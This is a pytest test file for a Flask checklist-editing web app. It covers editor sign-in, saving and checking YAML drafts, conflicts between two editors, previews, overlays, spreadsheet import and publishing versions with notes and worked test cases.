"""Editors work on the text of a checklist: check, try, save, compare; and nothing gets lost."""

import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook

from aladin.domain.draft import digest_of_source
from aladin.domain.staff import Role
from aladin.web import preview
from aladin.workflow import drafting, publishing
from tests.browser import Browser, Page, TreeBuilder
from tests.builders import a_checklist, a_requirement
from tests.web.answers import answer_all, hand_in
from tests.web.conftest import CHECKLISTS
from tests.web.staff import signed_in

TEXT = (CHECKLISTS / "contoh.yaml").read_text(encoding="utf-8")
FAULTY = TEXT.replace("kind: number", "kind: nomor")
AT = "/redaksi/contoh"


@pytest.fixture
def siti(app: Flask) -> Browser:
    """An editor who has just signed in."""
    return signed_in(app)


@pytest.fixture
def budi(app: Flask) -> Browser:
    """Another one, at another desk."""
    return signed_in(app, email="budi@dinas.example")


def draft_of(app: Flask, checklist_id: str = "contoh") -> str | None:
    with app.app_context():
        found = drafting.find(checklist_id)
        return found.text if found else None


def save(browser: Browser, text: str) -> None:
    browser.open(AT)
    browser.submit({"text": text})


def problems(page: Page) -> list[str]:
    return [each.text for each in page.all("li") if "problem" in each.get("class").split()]


# --- who may enter --------------------------------------------------------------------------------


@pytest.mark.proof("Z1")
@pytest.mark.parametrize("role", list(Role))
def test_editors_and_admins_see_the_checklists(app: Flask, role: Role) -> None:
    page = signed_in(app, role).open("/redaksi/")

    assert page.status == 200
    assert "Kesiapan apotek contoh" in page.text


@pytest.mark.proof("Z1")
def test_whoever_is_not_signed_in_is_led_to_the_sign_in_page(browser: Browser) -> None:
    for address in ("/redaksi/", AT, f"{AT}/pratinjau", f"{AT}/lembar.xlsx"):
        assert browser.open(address).address == "/petugas/masuk"


@pytest.mark.proof("Z7")
def test_what_was_typed_survives_the_end_of_a_session(app: Flask, siti: Browser) -> None:
    page = siti.open(AT)
    typed = TEXT.replace("Lemari", "Lemari obat")
    with siti.client.session_transaction() as session:
        secret = session.pop("staff")

    ended = siti.submit({"text": typed}, page=page)
    assert ended.status == 401
    assert draft_of(app) is None
    with siti.client.session_transaction() as session:
        session["staff"] = secret  # signed in again in another tab
    siti.submit(page=ended)

    assert draft_of(app) == typed


@pytest.mark.parametrize(
    "name", ["tidak-ada", "../contoh", "%2e%2e%2fcontoh", "regulations", "a" * 900]
)
def test_there_is_nothing_to_edit_under_another_name(siti: Browser, name: str) -> None:
    for page in ("", "/pratinjau", "/lembar", "/riwayat", "/terbitkan", "/bagian/alat"):
        assert siti.open(f"/redaksi/{name}{page}").status == 404


# --- the text -------------------------------------------------------------------------------------


def test_the_text_in_force_is_shown_to_the_letter(siti: Browser) -> None:
    assert siti.open(AT).value("text") == TEXT


def test_a_text_is_saved_as_a_draft_right_or_wrong(app: Flask, siti: Browser) -> None:
    siti.open(AT)

    page = siti.submit({"text": FAULTY})

    assert page.status == 200
    assert draft_of(app) == FAULTY == page.value("text")
    assert "siti@dinas.example" in page.text


def test_line_ends_of_windows_become_those_of_the_file(app: Flask, siti: Browser) -> None:
    siti.open(AT)
    siti.submit({"text": FAULTY.replace("\n", "\r\n")})

    assert draft_of(app) == FAULTY


def test_a_character_that_no_text_may_have_is_kept_visible(app: Flask, siti: Browser) -> None:
    siti.open(AT)
    siti.submit({"text": TEXT.replace("Lemari", "Lem\0ari", 1)})

    assert draft_of(app) == TEXT.replace("Lemari", "Lem\N{REPLACEMENT CHARACTER}ari", 1)


def test_a_faulty_line_is_shown_with_its_number_and_those_around(siti: Browser) -> None:
    number = FAULTY.splitlines().index("            kind: nomor") + 1
    siti.open(AT)

    page = siti.submit({"text": FAULTY})

    problem = problems(page)[0]
    assert f"Baris {number}, kolom" in problem
    assert f"{number} kind: nomor" in problem
    assert f"{number - 1} question: Berapa luas" in problem
    assert "unknown-word" in problem
    link = next(a for a in page.all("a") if a.get("data-line") == str(number))
    assert link.get("href") == f"{AT}/baris/{number}"


def test_a_text_can_be_checked_without_saving_it(app: Flask, siti: Browser) -> None:
    siti.open(AT)

    page = siti.submit({"text": FAULTY}, button="Periksa tanpa menyimpan")

    assert "belum disimpan" in page.text
    assert problems(page)
    assert page.value("text") == FAULTY
    assert draft_of(app) is None
    siti.submit()
    assert draft_of(app) == FAULTY, "and can still be saved from there"


def test_the_script_gets_the_same_problems_as_the_page(siti: Browser) -> None:
    token = siti.open(AT).value("csrf_token")
    shown = problems(siti.submit({"text": FAULTY}, button="Periksa tanpa menyimpan"))

    answer = siti.client.post(
        f"{AT}/periksa", data={"text": FAULTY}, headers={"X-CSRFToken": token}
    )

    found = json.loads(answer.text)
    assert answer.mimetype == "application/json"
    assert len(found["spots"]) == len(shown) == found["faults"] + found["advice"]
    for spot, text in zip(found["spots"], shown, strict=True):
        for part in (f"Baris {spot['line']}, kolom {spot['column']}", spot["fault"], spot["code"]):
            assert " ".join(part.split()) in text


def test_the_check_of_the_script_wants_the_token_and_keeps_nothing(
    app: Flask, siti: Browser
) -> None:
    assert siti.client.post(f"{AT}/periksa", data={"text": FAULTY}).status_code == 400
    assert draft_of(app) is None


def test_a_text_of_a_whole_megabyte_can_be_sent(app: Flask, siti: Browser) -> None:
    siti.open(AT)
    large = TEXT + "# baris catatan\n" * 60_000

    page = siti.submit({"text": large}, button="Periksa tanpa menyimpan")

    assert page.status == 200
    assert len(large) > 900_000


def test_of_very_many_problems_the_first_are_shown(siti: Browser) -> None:
    siti.open(AT)
    extra = "".join(f"kunci{n}: x\n" for n in range(300))

    page = siti.submit({"text": TEXT + extra}, button="Periksa tanpa menyimpan")

    assert len(problems(page)) == 100
    assert re.search(r"Masih ada \d+ lagi", page.text)


# --- two at one text ------------------------------------------------------------------------------


def test_the_second_to_save_sees_both_texts_and_overwrites_nothing(
    app: Flask, siti: Browser, budi: Browser
) -> None:
    hers, his = TEXT.replace("Lemari", "Lemari obat"), TEXT.replace("Peralatan", "Alat")
    siti.open(AT)
    budi.open(AT)
    budi.submit({"text": his})

    page = siti.submit({"text": hers})

    assert page.status == 409
    assert draft_of(app) == his
    assert page.value("text") == hers
    assert page.by_id("stored").raw == his
    assert "budi@dinas.example" in page.text
    marked = [each.text for each in page.all("ins", "del")]
    assert any("Lemari obat" in text for text in marked)
    assert any("title: Alat" in text for text in marked)
    siti.submit()
    assert draft_of(app) == hers, "having seen both, she may"


def test_a_draft_that_was_dropped_meanwhile_is_no_free_way(
    app: Flask, siti: Browser, budi: Browser
) -> None:
    budi.open(AT)
    budi.submit({"text": FAULTY})
    siti.open(AT)
    budi.open(f"{AT}/buang")
    budi.submit()

    page = siti.submit({"text": FAULTY + "# lagi\n"})

    assert page.status == 409
    assert draft_of(app) is None
    assert page.by_id("stored").raw == TEXT


def test_where_there_is_no_draft_there_is_nothing_to_drop(siti: Browser) -> None:
    assert siti.open(f"{AT}/buang").address == AT


def test_a_draft_is_dropped_only_after_asking(app: Flask, siti: Browser) -> None:
    siti.open(AT)
    siti.submit({"text": FAULTY})

    siti.click("Buang konsep ini")
    assert draft_of(app) == FAULTY
    page = siti.submit(button="Buang konsep")

    assert draft_of(app) is None
    assert page.value("text") == TEXT


# --- preview --------------------------------------------------------------------------------------


def test_every_page_is_shown_as_the_applicant_sees_it(siti: Browser, holder: Browser) -> None:
    listed = siti.open(f"{AT}/pratinjau")
    theirs = holder.open("/isi/alat")

    siti.click("Peralatan")
    ours = siti.page

    assert "10 pertanyaan di 3 halaman" in listed.text
    questions = [each.text for each in theirs.all("fieldset")]
    assert questions == [each.text for each in ours.all("fieldset")]
    assert len(questions) == 6


def test_what_only_some_are_asked_is_shown_with_its_condition(siti: Browser) -> None:
    page = siti.open(f"{AT}/bagian/penyimpanan")

    gate = next(each.text for each in page.all("p") if "gate" in each.get("class"))
    assert gate.startswith("Hanya ditanyakan bila")
    assert "Obat rantai dingin" in gate
    assert "Apakah suhu lemari pendingin dicatat" in page.text


def test_one_page_is_edited_beside_its_preview_and_the_rest_stays(
    app: Flask, siti: Browser
) -> None:
    page = siti.open(f"{AT}/bagian/alat")
    part = page.value("part")

    page = siti.submit({"part": part.replace("Berapa lemari", "Berapa banyak lemari")})

    assert part in TEXT
    assert part.startswith("      - id: alat\n")
    assert draft_of(app) == TEXT.replace("Berapa lemari", "Berapa banyak lemari")
    assert "Berapa banyak lemari" in page.all("section")[0].text


def test_a_page_that_becomes_faulty_leads_to_the_whole_text(siti: Browser) -> None:
    page = siti.open(f"{AT}/bagian/alat")

    page = siti.submit({"part": page.value("part").replace("kind: count", "kind: hitung")})

    assert page.address == AT
    assert problems(page)
    assert "Perbaiki dahulu" in siti.open(f"{AT}/pratinjau").text


def test_a_page_that_was_changed_meanwhile_shows_both_texts(
    app: Flask, siti: Browser, budi: Browser
) -> None:
    part = siti.open(f"{AT}/bagian/alat").value("part")
    budi.open(AT)
    his = TEXT.replace("Ruang penyimpanan", "Ruang simpan")
    budi.submit({"text": his})

    page = siti.submit({"part": part.replace("Lemari", "Lemari obat")})

    assert page.status == 409
    assert page.value("text") == his.replace("Lemari", "Lemari obat").replace(
        "lemari obat obat", "lemari obat"
    )
    assert draft_of(app) == his


def test_a_problem_of_a_stored_text_leads_to_its_lines_and_those_are_mended(
    app: Flask, siti: Browser
) -> None:
    save(siti, FAULTY)
    number = FAULTY.splitlines().index("            kind: nomor") + 1

    page = siti.open(next(a.get("href") for a in siti.page.all("a") if a.get("data-line")))

    part = page.value("part")
    assert part in FAULTY
    assert part.splitlines()[8] == "            kind: nomor"
    assert f"Baris {number - 8} sampai {number + 8}" in page.text
    assert "unknown-word" in problems(page)[0]
    page = siti.submit({"part": part.replace("nomor", "numbr")}, button="Periksa tanpa menyimpan")
    assert "numbr" in problems(page)[0]
    assert "belum disimpan" in page.text
    assert draft_of(app) == FAULTY
    page = siti.submit({"part": part.replace("nomor", "number")})
    assert page.address == AT
    assert draft_of(app) == TEXT


@pytest.mark.parametrize("text", ["x", "x\n", "a: [\n", TEXT])
def test_the_first_and_the_last_line_have_their_page_and_none_beyond(
    app: Flask, siti: Browser, text: str
) -> None:
    save(siti, text)
    last = text.count("\n") + (not text.endswith("\n"))

    for line in {1, last}:
        siti.open(f"{AT}/baris/{line}")
        siti.submit()
        assert draft_of(app) in (text, text + "\n")
    assert siti.open(f"{AT}/baris/{last + 1}").status == 404
    assert siti.open(f"{AT}/baris/0").status == 404


def test_one_question_is_shown_with_what_stands_behind_it_and_edited(
    app: Flask, siti: Browser
) -> None:
    siti.open(f"{AT}/bagian/penyimpanan")
    page = siti.click("Sunting pertanyaan ini Luas ruang simpan")

    part = page.value("part")
    assert part in TEXT
    assert part.startswith("          - id: luas\n")
    assert [each.text for each in page.all("legend")] == ["II.2 Berapa luas ruang penyimpanan?"]
    assert "Keparahan m, bobot 1." in page.text
    page = siti.submit(
        {"part": part.replace("Berapa luas ruang", "Berapa luas lantai ruang")},
        button="Tampilkan tanpa menyimpan",
    )
    assert [each.text for each in page.all("legend")] == [
        "II.2 Berapa luas lantai ruang penyimpanan?"
    ]
    assert "belum disimpan" in page.text
    assert draft_of(app) is None
    page = siti.submit()
    assert page.address == f"{AT}/pertanyaan/luas"
    assert draft_of(app) == TEXT.replace("Berapa luas ruang", "Berapa luas lantai ruang")


def test_a_question_with_a_fault_shows_what_is_wrong_in_place_of_its_preview(
    siti: Browser,
) -> None:
    part = siti.open(f"{AT}/pertanyaan/luas").value("part")

    page = siti.submit(
        {"part": part.replace("kind: number", "kind: nomor")}, button="Tampilkan tanpa menyimpan"
    )

    assert "unknown-word" in problems(page)[0]
    assert not list(page.all("legend"))
    assert page.value("part") == part.replace("kind: number", "kind: nomor")


def test_a_question_that_is_not_asked_leads_to_the_preview(siti: Browser) -> None:
    assert siti.open(f"{AT}/pertanyaan/tidak-ada").address == f"{AT}/pratinjau"


def test_the_question_at_the_cursor_is_shown_once_the_text_is_saved(
    app: Flask, siti: Browser
) -> None:
    """The script puts the id at the cursor into the button."""
    data = {**dict(siti.open(AT).sent()), "text": NEXT, "question": "luas"}

    answer = siti.client.post(AT, data=data)

    assert answer.headers["Location"] == f"{AT}/pertanyaan/luas"
    assert draft_of(app) == NEXT


@pytest.mark.usefixtures("with_an_overlay")
def test_a_question_that_an_overlay_overrides_is_shown_with_the_lines_that_do_so(
    siti: Browser,
) -> None:
    save_at(siti, "/redaksi/contoh-kota", OVERRIDING)

    page = siti.open("/redaksi/contoh-kota/pertanyaan/luas")

    assert page.value("part") == "  luas: {rule: {at_least: 20}}\n"
    assert "Berapa luas ruang penyimpanan?" in page.text
    page = siti.open("/redaksi/contoh-kota/pertanyaan/papan-kota")
    assert page.value("part").startswith("          - id: papan-kota\n")
    page = siti.open("/redaksi/contoh-kota/pertanyaan/lemari")
    assert "berasal dari daftar dasarnya" in page.text
    assert not list(page.main.all("form"))


def save_at(browser: Browser, address: str, more: str) -> None:
    text = browser.open(address).value("text")
    browser.submit({"text": text + more})


def test_a_page_that_is_not_there_leads_to_those_that_are(siti: Browser) -> None:
    assert siti.open(f"{AT}/bagian/tidak-ada").address == f"{AT}/pratinjau"


@pytest.mark.parametrize("gone", ["[", TEXT.replace("id: alat", "id: peralatan")])
def test_what_was_typed_into_a_page_that_has_gone_is_shown(
    app: Flask, siti: Browser, budi: Browser, gone: str
) -> None:
    part = siti.open(f"{AT}/bagian/alat").value("part")
    save(budi, gone)

    page = siti.submit({"part": part})

    assert page.status == 409
    assert page.value("text") == part
    assert draft_of(app) == gone


@pytest.fixture
def with_cases(environment: dict[str, str], tmp_path: Path) -> None:
    """A folder of checklists with worked cases, as they are shipped."""
    folder = tmp_path / "checklists"
    (folder / "cases" / "contoh").mkdir(parents=True)
    for name in ("contoh.yaml", "regulations.yaml"):
        (folder / name).write_text((CHECKLISTS / name).read_text())
    case = (
        "checklist: contoh\ntitle: {title}\non: 2026-11-24\nanswers:\n  dingin: no\n  lemari: {n}\n"
    )
    for name, n, verdict in (("cocok", 1, "incomplete"), ("beda", 0, "siap")):
        text = case.format(title=f"Kasus {name}", n=n) + f"expect: {{verdict: {verdict}}}\n"
        (folder / "cases" / "contoh" / f"{name}.yaml").write_text(text)
    environment["ALADIN_CHECKLISTS"] = str(folder)


@pytest.mark.usefixtures("with_cases")
def test_worked_cases_are_run_on_the_draft(siti: Browser) -> None:
    page = siti.open(f"{AT}/pratinjau")

    assert "1 dari 2 kasus" in page.text
    assert "Kasus beda tidak sesuai" in page.text
    assert "putusan: diharapkan Siap diajukan, sekarang Belum lengkap" in page.text


@pytest.mark.usefixtures("with_cases")
def test_the_report_of_a_worked_case_can_be_printed(siti: Browser) -> None:
    answer = siti.client.get(f"{AT}/kasus/cocok.pdf")

    assert answer.status_code == 200
    assert answer.data.startswith(b"%PDF-")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert siti.client.get(f"{AT}/kasus/tidak-ada.pdf").status_code == 404
    save(siti, FAULTY)
    assert siti.open(f"{AT}/kasus/cocok.pdf").address == AT


@pytest.mark.usefixtures("with_cases")
def test_a_case_that_no_longer_fits_says_why(siti: Browser) -> None:
    save(siti, TEXT.replace("id: lemari", "id: lemari-obat").replace("{lemari:", "{lemari-obat:"))

    page = siti.open(f"{AT}/pratinjau")

    assert "0 dari 2 kasus" in page.text
    assert '"lemari"' in page.text
    assert siti.client.get(f"{AT}/kasus/cocok.pdf").status_code == 404


# --- overlays -------------------------------------------------------------------------------------


@pytest.fixture
def with_an_overlay(with_cases: None, environment: dict[str, str]) -> None:
    """The same folder, with a checklist laid over the other."""
    overlay = """format: 1
id: contoh-kota
version: "2026.1"
title: Kesiapan apotek contoh di kota
extends: {checklist: contoh, version: "2026.1"}
"""
    (Path(environment["ALADIN_CHECKLISTS"]) / "contoh-kota.yaml").write_text(overlay)


@pytest.mark.usefixtures("with_an_overlay")
def test_an_overlay_is_read_on_its_base(siti: Browser) -> None:
    page = siti.open("/redaksi/contoh-kota")

    assert "extends:" in page.value("text")
    assert "Tidak ada kesalahan" in page.by_id("problems").text
    assert "10 pertanyaan" in siti.open("/redaksi/contoh-kota/pratinjau").text
    assert "berasal dari daftar dasarnya" in siti.open("/redaksi/contoh-kota/bagian/alat").text


@pytest.mark.usefixtures("with_an_overlay")
def test_an_overlay_makes_no_sheet_and_says_why(siti: Browser) -> None:
    page = siti.open("/redaksi/contoh-kota/lembar.xlsx")

    assert page.address == "/redaksi/contoh-kota/lembar"
    assert "hanya perbedaan dari daftar dasarnya" in page.text
    assert not list(page.main.all("form"))
    siti.click("lembar Kesiapan apotek contoh")
    assert siti.page.address == f"{AT}/lembar"


@pytest.mark.usefixtures("with_an_overlay")
def test_a_sheet_is_not_taken_over_into_an_overlay_by_any_form(siti: Browser) -> None:
    data = {**dict(siti.open(f"{AT}/lembar").sent()), "sheet": (io.BytesIO(book(siti)), "x.xlsx")}

    page = Page(siti.client.post("/redaksi/contoh-kota/lembar", data=data))

    assert page.status == 422
    assert "hanya memuat perbedaannya" in problems(page)[0]


@pytest.mark.usefixtures("with_an_overlay")
def test_an_overlay_says_what_it_is_laid_over(app: Flask, siti: Browser) -> None:
    before = siti.open("/redaksi/contoh-kota").main.text
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan?dampak=1")
    siti.submit({"note": "Luas naik.", "accepted": "y"})
    after = siti.open("/redaksi/contoh-kota").main.text

    assert "perbedaannya dari Kesiapan apotek contoh versi 2026.1" in before
    assert "Yang berlaku di sana" not in before
    assert "Yang berlaku di sana sekarang versi 2026.2" in after


OVERRIDING = """override:
  luas: {rule: {at_least: 20}}
add:
  - sections:
      - id: kota
        title: Tambahan kota
        requirements:
          - id: papan-kota
            title: Papan nama
            question: Apakah papan nama terpasang?
            scale: ya-belum
            severity: m
            evidence: [{name: Papan, kind: photo}]
            remedy: {action: Pasang papan nama., days: 7, cost: low}
            citations: [{regulation: pp-28-2025, confidence: secondary}]
"""


@pytest.mark.usefixtures("with_an_overlay")
def test_what_an_overlay_changes_is_checked_shown_and_told_on_its_base(siti: Browser) -> None:
    text = siti.open("/redaksi/contoh-kota").value("text")
    newer = text.replace('version: "2026.1"', 'version: "2026.2"', 1)
    page = siti.submit({"text": newer + "override:\n  luass: {weight: 2}\n"})
    assert 'Maksud Anda "luas"?' in problems(page)[0]

    page = siti.submit({"text": newer + OVERRIDING})
    assert "Tidak ada kesalahan" in page.by_id("problems").text
    page = siti.open("/redaksi/contoh-kota/bagian/kota")
    assert page.value("part").startswith("      - id: kota\n")
    assert "Apakah papan nama terpasang?" in page.all("section")[0].text
    siti.submit({"part": page.value("part").replace("nama terpasang", "nama apotek terpasang")})
    page = siti.open("/redaksi/contoh-kota/terbitkan?dampak=1")

    assert "Lebih ketat: Luas ruang simpan (luas): paling sedikit: dari 4 menjadi 20." in page.text
    assert "Baru: persyaratan Papan nama (papan-kota)." in page.text
    page = siti.submit({"note": "Aturan kota."})
    assert "Versi 2026.2 sudah terbit" in page.text
    assert "papan nama apotek" in siti.open("/daftar-periksa/contoh-kota").text
    assert "Baru: persyaratan Papan nama" in siti.open("/redaksi/contoh-kota/riwayat/1").text


@pytest.mark.usefixtures("with_an_overlay")
def test_an_overlay_is_published_on_its_base(siti: Browser) -> None:
    text = siti.open("/redaksi/contoh-kota").value("text")
    siti.submit({"text": text.replace('version: "2026.1"', 'version: "2026.2"', 1)})
    siti.open("/redaksi/contoh-kota/terbitkan?dampak=1")

    page = siti.submit({"note": "Versi kota."})

    assert "Versi 2026.2 sudah terbit" in page.text


# --- spreadsheet ----------------------------------------------------------------------------------


def book(siti: Browser) -> bytes:
    content: bytes = siti.client.get(f"{AT}/lembar.xlsx").data
    return content


def changed(content: bytes, before: str, after: str) -> bytes:
    """The spreadsheet with another text wherever a cell says `before`."""
    opened = load_workbook(io.BytesIO(content))
    for sheet in opened.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == before:
                    cell.value = after
    out = io.BytesIO()
    opened.save(out)
    return out.getvalue()


def upload(siti: Browser, content: bytes, name: str = "contoh.xlsx") -> Page:
    page = siti.open(f"{AT}/lembar")
    data = {**dict(page.sent()), "sheet": (io.BytesIO(content), name)}
    siti.page = Page(siti.client.post(f"{AT}/lembar", data=data))
    return siti.page


def test_an_edited_cell_is_shown_first_and_then_changes_one_line(app: Flask, siti: Browser) -> None:
    question = "Berapa lemari obat yang ada?"
    sheet = changed(book(siti), question, "Berapa lemari di apotek?")

    page = upload(siti, sheet)
    assert page.status == 200
    assert f"Sebelum: {question}" in page.text
    assert draft_of(app) is None
    siti.submit(button="Ambil alih")

    assert draft_of(app) == TEXT.replace(question, "Berapa lemari di apotek?")


def test_a_sheet_of_a_text_that_has_changed_since_is_refused(siti: Browser) -> None:
    sheet = book(siti)
    siti.open(AT)
    siti.submit({"text": TEXT.replace("Lemari", "Lemari obat")})

    page = upload(siti, sheet)

    assert page.status == 422
    assert "belum dapat diambil alih" in page.text
    assert not list(page.main.all("form"))


@pytest.mark.parametrize("content", [b"", b"not a workbook", b"PK\x03\x04broken"])
def test_what_is_no_sheet_is_refused_with_a_sentence(siti: Browser, content: bytes) -> None:
    page = upload(siti, content)

    assert page.status == 422
    assert problems(page)


def test_a_form_without_a_file_says_what_is_missing(siti: Browser) -> None:
    siti.open(f"{AT}/lembar")

    page = siti.submit()

    assert page.status == 422
    assert "Pilih berkas .xlsx" in page.errors[0]


def test_a_faulty_text_makes_no_sheet(siti: Browser) -> None:
    siti.open(AT)
    siti.submit({"text": FAULTY})

    assert siti.open(f"{AT}/lembar.xlsx").address == AT


# --- publish --------------------------------------------------------------------------------------

STRICTER = TEXT.replace("rule: {at_least: 4}", "rule: {at_least: 20}")
NEXT = STRICTER.replace('version: "2026.1"', 'version: "2026.2"')


def publish(browser: Browser, note: str = "Luas paling sedikit naik.") -> Page:
    browser.open(f"{AT}/terbitkan")
    browser.submit(button="Hitung dampaknya")
    return browser.submit({"note": note})


def in_force(app: Flask) -> str:
    with app.app_context():
        shipped = app.extensions["aladin"].library.checklists
        return publishing.current("contoh", shipped).version


def test_without_a_draft_there_is_nothing_to_publish(siti: Browser) -> None:
    page = siti.open(f"{AT}/terbitkan")

    assert "Tidak ada konsep" in page.text
    assert not list(page.main.all("form"))


def test_what_changes_is_told_in_words_before_anything_is_published(
    app: Flask, siti: Browser
) -> None:
    save(siti, NEXT)

    page = siti.open(f"{AT}/terbitkan")

    assert "Lebih ketat: Luas ruang simpan (luas): paling sedikit: dari 4 menjadi 20." in page.text
    marked = [each.text for each in page.all("ins", "del")]
    assert '- version: "2026.1"' in marked
    assert in_force(app) == "2026.1"


def test_a_draft_with_faults_or_an_old_version_cannot_be_published(siti: Browser) -> None:
    for text, said in ((FAULTY, "kind"), (STRICTER, "Naikkan `version`")):
        save(siti, text)
        page = siti.open(f"{AT}/terbitkan")

        assert "Belum dapat diterbitkan" in page.text
        assert said in page.text
        assert not list(page.main.all("form"))
        save(siti, TEXT)


def test_the_impact_on_what_is_stored_is_shown_before_publishing(
    siti: Browser, holder: Browser, app: Flask
) -> None:
    answer_all(holder)
    hand_in(holder)
    other = Browser(app)
    other.open("/mulai/contoh")
    other.submit()
    other.open("/isi/penyimpanan")
    other.submit({"answer-luas": "12"})
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")

    page = siti.submit(button="Hitung dampaknya")

    assert "1 dinilai ulang dengan versi baru" in page.text
    assert "1 akan mendapat putusan lain" in page.text
    assert re.search(r"1: Siap diajukan → \w+", page.text)
    assert "Tidak ada putusan yang berubah" in page.text, "the one still open stays incomplete"


def test_publishing_puts_the_draft_in_force_with_note_and_name(app: Flask, siti: Browser) -> None:
    save(siti, NEXT)

    page = publish(siti)

    assert page.address == f"{AT}/riwayat"
    for said in ("Versi 2026.2", "berlaku", "Luas paling sedikit naik.", "siti@dinas.example"):
        assert said in page.text
    assert in_force(app) == "2026.2"
    assert draft_of(app) is None
    assert siti.open(AT).value("text") == NEXT
    assert "diterbitkan siti@dinas.example" in siti.open("/redaksi/").text


def test_what_is_published_is_what_new_assessments_begin_on(
    siti: Browser, holder: Browser, app: Flask
) -> None:
    save(siti, NEXT.replace("Berapa luas ruang", "Berapa luas lantai ruang"))
    publish(siti)
    other = Browser(app)
    other.open("/mulai/contoh")
    other.submit()

    assert "Berapa luas lantai ruang" in other.open("/isi/penyimpanan").text
    assert "Berapa luas lantai ruang" in other.open("/daftar-periksa/contoh").text
    assert "Berapa luas lantai" not in holder.open("/isi/penyimpanan").text, "it keeps its own"


@pytest.mark.parametrize("note", ["", "   ", "x" * 2001])
def test_a_version_is_not_published_without_its_note(app: Flask, siti: Browser, note: str) -> None:
    save(siti, NEXT)

    page = publish(siti, note)

    assert page.status == 422
    assert page.errors
    assert in_force(app) == "2026.1"
    assert page.value("note").strip() == note.strip()


def test_only_what_was_looked_at_is_published(app: Flask, siti: Browser, budi: Browser) -> None:
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")
    siti.submit(button="Hitung dampaknya")
    save(budi, NEXT.replace("Lemari", "Lemari obat"))

    page = siti.submit({"note": "Luas paling sedikit naik."})

    assert page.status == 409
    assert "sudah berubah sejak halaman ini" in page.text
    assert page.value("note") == "Luas paling sedikit naik."
    assert in_force(app) == "2026.1"
    siti.submit()
    assert in_force(app) == "2026.2"


def test_a_draft_with_faults_is_not_published_by_any_form(app: Flask, siti: Browser) -> None:
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")
    data = dict(siti.submit(button="Hitung dampaknya").sent()) | {"note": "Diam-diam."}
    save(siti, FAULTY)

    answer = siti.client.post(f"{AT}/terbitkan", data=data | {"seen": digest_of_source(FAULTY)})

    assert answer.status_code == 422
    assert in_force(app) == "2026.1"


@pytest.mark.usefixtures("with_cases")
def test_worked_cases_that_come_out_otherwise_must_be_accepted_by_hand(
    app: Flask, siti: Browser
) -> None:
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")
    page = siti.submit(button="Hitung dampaknya")
    assert "1 dari 2 kasus uji tidak keluar seperti yang diharapkan" in page.text
    assert "putusan: diharapkan Siap diajukan, sekarang Belum lengkap" in page.text
    assert "sudah begitu pada versi yang berlaku" in page.text

    refused = siti.submit({"note": "Luas paling sedikit naik."})
    assert refused.status == 422
    assert "Centang bahwa kasus uji" in refused.errors[0]
    assert refused.value("note") == "Luas paling sedikit naik."
    assert in_force(app) == "2026.1"
    page = siti.submit({"accepted": "y"})

    assert in_force(app) == "2026.2"
    assert (
        "Luas paling sedikit naik. Diterbitkan dengan 1 kasus uji yang tidak keluar seperti yang "
        "diharapkan: beda."
    ) in page.text


@pytest.mark.usefixtures("with_cases")
def test_what_is_accepted_are_the_cases_that_were_shown_and_no_others(
    app: Flask, siti: Browser, environment: dict[str, str]
) -> None:
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")
    siti.submit(button="Hitung dampaknya")
    folder = Path(environment["ALADIN_CHECKLISTS"]) / "cases" / "contoh"
    (folder / "baru.yaml").write_text((folder / "beda.yaml").read_text())

    page = siti.submit({"note": "Luas paling sedikit naik.", "accepted": "y"})

    assert page.status == 422
    assert "2 dari 3 kasus uji" in page.text
    assert in_force(app) == "2026.1"


@pytest.mark.usefixtures("with_cases")
def test_a_draft_is_published_without_more_ado_where_all_cases_come_out_as_expected(
    siti: Browser, environment: dict[str, str]
) -> None:
    (Path(environment["ALADIN_CHECKLISTS"]) / "cases" / "contoh" / "beda.yaml").unlink()
    save(siti, NEXT)

    siti.open(f"{AT}/terbitkan")
    page = siti.submit(button="Hitung dampaknya")

    assert "Semua 1 kasus uji keluar seperti yang diharapkan" in page.text
    assert "Versi 2026.2 sudah terbit" in siti.submit({"note": "Luas naik."}).text


def test_where_there_are_no_worked_cases_that_is_said(siti: Browser) -> None:
    save(siti, NEXT)

    assert "Belum ada kasus uji" in siti.open(f"{AT}/terbitkan").text


def test_sending_the_form_twice_publishes_once(app: Flask, siti: Browser) -> None:
    save(siti, NEXT)
    siti.open(f"{AT}/terbitkan")
    page = siti.submit(button="Hitung dampaknya")
    siti.submit({"note": "Pertama."}, page=page)

    again = siti.submit({"note": "Pertama."}, page=page)

    assert again.status == 409
    assert siti.open(f"{AT}/riwayat").text.count("Pertama.") == 1


def test_a_draft_begun_before_another_version_came_says_so(siti: Browser, app: Flask) -> None:
    save(siti, NEXT)
    with app.app_context():
        parts, now = app.extensions["aladin"], datetime.now(UTC)
        library = parts.library
        other = TEXT.replace("2026.1", "2026.5")
        publishing.publish(
            other, "x", library.registry, library.checklists, note="Lain.", by="cli", now=now
        )

    page = siti.open(AT)

    assert "versi lain sudah diterbitkan" in page.text
    assert "Naikkan `version`" in page.text


def test_every_version_can_be_read_and_worked_on_again(app: Flask, siti: Browser) -> None:
    save(siti, NEXT)
    publish(siti)
    save(siti, NEXT.replace("2026.2", "2026.3").replace("Lemari", "Lemari obat"))
    publish(siti, "Nama lebih jelas.")

    first = siti.open(f"{AT}/riwayat/1")
    shipped = siti.open(f"{AT}/riwayat/0")

    assert first.value("text") == NEXT
    assert "Lebih ketat" in first.text
    assert shipped.value("text") == TEXT
    assert "Nama lebih jelas." in siti.open(f"{AT}/riwayat/2").text
    assert siti.open(f"{AT}/riwayat/3").status == 404
    siti.submit(page=first)
    assert draft_of(app) == NEXT


def test_a_new_checklist_begins_as_a_copy_and_can_be_published(app: Flask, siti: Browser) -> None:
    siti.open("/redaksi/baru")
    taken = [siti.submit({"id": name}).errors for name in ("contoh", "baru", "Bukan Id", "")]

    page = siti.submit({"id": "toko-contoh"})

    assert all(taken)
    text = TEXT.replace("id: contoh", "id: toko-contoh")
    assert page.value("text") == text == draft_of(app, "toko-contoh")
    assert "belum ada" in siti.open("/redaksi/").text
    siti.open("/redaksi/toko-contoh/terbitkan?dampak=1")
    page = siti.submit({"note": "Yang pertama."})
